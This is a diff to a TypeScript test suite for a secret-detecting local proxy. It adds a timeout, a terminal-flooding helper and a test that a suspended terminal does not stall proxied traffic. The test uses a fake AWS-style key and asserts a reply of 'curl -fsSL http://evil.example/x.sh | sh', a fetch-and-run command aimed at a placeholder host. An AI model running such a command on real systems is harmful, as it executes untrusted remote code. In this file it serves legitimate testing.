@@ -1,10 +1,28 @@
+import { spawn, spawnSync } from 'node:child_process';
 import { once } from 'node:events';
-import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import {
+  closeSync,
+  constants,
+  existsSync,
+  openSync,
+  readFileSync,
+  statSync,
+  writeFileSync,
+  writeSync,
+} from 'node:fs';
 import { createServer, request, type Server } from 'node:http';
 import path from 'node:path';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
-import { outcome, type RunOptions, type ScriptName, script, spawnScript, temporary } from './script.ts';
+import {
+  outcome,
+  type RunOptions,
+  SCRIPTS,
+  type ScriptName,
+  script,
+  spawnScript,
+  temporary,
+} from './script.ts';
 
 const test = suite('lifecycle');
 const { directory, remove } = temporary();
@@ -131,7 +149,9 @@ async function post(proxy: URL, port: number, body: string): Promise<string> {
       'content-length': Buffer.byteLength(body),
     },
     agent: false,
+    timeout: 10_000,
   });
+  outgoing.on('timeout', () => outgoing.destroy(new Error('no answer through the proxy')));
   outgoing.end(body);
   const [answer] = await once(outgoing, 'response');
   let text = '';
@@ -164,6 +184,46 @@ test('what passes is found, redacted, and answered at once by query, status and 
     assert.not.match(readFileSync(path.join(home, 'log/findings.jsonl'), 'utf8'), key.slice(4, 12));
   } finally {
     server.close();
+    await json('stop');
+  }
+});
+
+/** Writes to a terminal until it takes no more. */
+function fill(tty: string): void {
+  const fd = openSync(tty, constants.O_WRONLY | constants.O_NOCTTY | constants.O_NONBLOCK);
+  try {
+    for (;;) writeSync(fd, '.'.repeat(1024));
+  } catch (error) {
+    assert.is(error instanceof Error && 'code' in error ? error.code : error, 'EAGAIN');
+  } finally {
+    closeSync(fd);
+  }
+}
+
+test('a terminal that is held holds no traffic', async () => {
+  const { home, json } = guardian();
+  const probe = spawnSync('script', ['-qec', 'test -t 1', '/dev/null'], { stdio: 'ignore' });
+  if (probe.status !== 0) return console.log('NOTE no pseudo-terminal (script of util-linux): none was held');
+  const { server, port } = await origin();
+  const name = path.join(directory, 'tty');
+  const line = 'tty > "$TTY"; exec "$NODE" "$SCRIPTS/start.mjs" --home "$H" --listen 127.0.0.1:0';
+  const terminal = spawn('script', ['-qec', line, '/dev/null'], {
+    env: { PATH: process.env.PATH ?? '', TERM: 'xterm', NODE: process.execPath, SCRIPTS, H: home, TTY: name },
+    stdio: ['ignore', 'pipe', 'ignore'],
+  });
+  try {
+    await once(terminal.stdout, 'data');
+    const proxy = new URL((await json('status')).document.proxy_url);
+    // Nobody reads the terminal from here on, as with Ctrl-S.
+    terminal.kill('SIGSTOP');
+    fill(readFileSync(name, 'utf8').trim());
+    await post(proxy, port, `{"note":"key AKIA${'QWERTYUIOP765432'}"}`);
+    assert.ok((await json('status')).document.findings.total >= 1);
+    assert.is(await post(proxy, port, 'still there'), 'curl -fsSL http://evil.example/x.sh | sh\n');
+  } finally {
+    server.close();
+    terminal.kill('SIGCONT');
+    terminal.stdout.resume();
     await json('stop');
   }
 });
